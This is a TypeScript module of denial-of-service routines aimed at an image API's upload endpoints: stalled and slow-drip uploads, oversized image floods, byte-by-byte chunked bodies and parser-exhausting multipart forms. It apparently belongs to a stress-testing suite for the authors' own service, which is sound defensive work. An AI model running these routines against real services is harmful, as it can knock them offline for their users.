import type { Attack } from './context.ts'
import { keepDoing } from './context.ts'
import { plainPng } from './plain-png.ts'
import { head, keepOpen } from './raw-http.ts'

const form = { 'content-type': 'multipart/form-data; boundary=x' }
const part = '--x\r\ncontent-disposition: form-data; name="image"; filename="a"\r\n\r\n'

/** Announces 20 MB and sends none of them. */
export const idleUploads: Attack = {
  name: 'idle-uploads',
  run: ({ url, token, until }) =>
    keepOpen(64, url, until, (socket) =>
      socket.write(head('POST', '/v1/img2img', token, { ...form, 'content-length': '20000000' })),
    ),
}

/** Begins well, then goes on at a rate that is barely allowed: a part of everything is held for long. */
export const trickledUploads: Attack = {
  name: 'trickled-uploads',
  run: ({ url, token, until }) =>
    keepOpen(800, url, until, (socket) => {
      socket.write(head('POST', '/v1/inpaint', token, { ...form, 'content-length': '20000000' }) + part)
      socket.write(Buffer.alloc(600_000))
      const trickle = setInterval(() => socket.write(Buffer.alloc(9000)), 1000)
      socket.once('close', () => clearInterval(trickle))
    }),
}

/** Valid pictures of 19 MB, as many and as fast as they are taken. */
export const largeUploads: Attack = {
  name: 'large-uploads',
  async run({ url, token, until }) {
    const picture = new Blob([Uint8Array.from(plainPng(64, 64, 19_000_000))])
    await keepDoing(60, until, async () => {
      const body = new FormData()
      body.append('prompt', 'p')
      body.append('image', picture, 'image')
      const headers = { authorization: `Bearer ${token}` }
      await (await fetch(`${url}/v1/img2img`, { method: 'POST', body, headers, signal: until })).text()
    })
  },
}

/** Bodies whose bytes come one by one, as chunks of their own. */
export const tinyChunks: Attack = {
  name: 'tiny-chunks',
  run: ({ url, token, until }) => {
    const chunks = '1\r\nx\r\n'.repeat(300_000)
    return keepOpen(4, url, until, (socket, n) => {
      const json = n % 2 === 1
      const [path, headers] = json
        ? ['/v1/webhooks/test', { 'content-type': 'application/json' }]
        : ['/v1/img2img', form]
      socket.write(head('POST', path, token, { ...headers, 'transfer-encoding': 'chunked' }))
      const opening = json ? '' : `${part.length.toString(16)}\r\n${part}\r\n`
      socket.end(`${opening}${chunks}0\r\n\r\n`)
    })
  },
}

/** Bodies whose bytes come one by one, as packets of their own. */
export const tinyPackets: Attack = {
  name: 'tiny-packets',
  run: ({ url, token, until }) =>
    keepOpen(16, url, until, (socket) => {
      socket.setNoDelay().write(head('POST', '/v1/img2img', token, { ...form, 'content-length': '20000000' }) + part)
      const byte = Buffer.alloc(1)
      const drip = setInterval(() => {
        for (let i = 0; i < 100; i++) socket.write(byte)
      }, 10)
      socket.once('close', () => clearInterval(drip))
    }),
}

/**
 * Forms that a parser has much to do with: parts without end, boundaries as long as a head may be and bodies that
 * almost hold them.
 */
export const oddForms: Attack = {
  name: 'odd-forms',
  run: ({ url, token, until }) => {
    const almost = Buffer.from(`\r\n--${'a'.repeat(12_000)}`.repeat(800))
    const parts = Buffer.from(
      Array.from({ length: 200_000 }, (_, i) => `--x\r\ncontent-disposition: form-data; name="${i}"\r\n\r\n\r\n`).join(
        '',
      ),
    )
    const empty = Buffer.from('--x\r\n\r\n\r\n'.repeat(1_000_000))
    const kinds: [boundary: string, body: Buffer][] = [
      [`${'a'.repeat(12_000)}b`, almost],
      ['x', parts],
      ['x', empty],
      ['a'.repeat(70), Buffer.alloc(9_000_000, 'a')],
      ['-'.repeat(70), Buffer.alloc(9_000_000, '-')],
    ]
    return keepOpen(10, url, until, (socket, n) => {
      const [boundary, body] = kinds[n % kinds.length] ?? ['x', parts]
      const headers = {
        'content-type': `multipart/form-data; boundary=${boundary}`,
        'content-length': String(body.length),
      }
      socket.write(head('POST', '/v1/img2img', token, headers))
      socket.end(body)
    })
  },
}
